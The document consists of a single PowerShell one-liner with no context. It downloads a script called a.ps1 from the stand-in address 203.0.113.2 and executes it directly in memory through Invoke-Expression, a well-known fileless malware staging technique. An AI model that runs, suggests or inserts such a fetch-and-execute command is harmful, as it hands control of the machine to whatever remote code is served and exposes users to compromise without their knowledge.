IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.2/a.ps1')
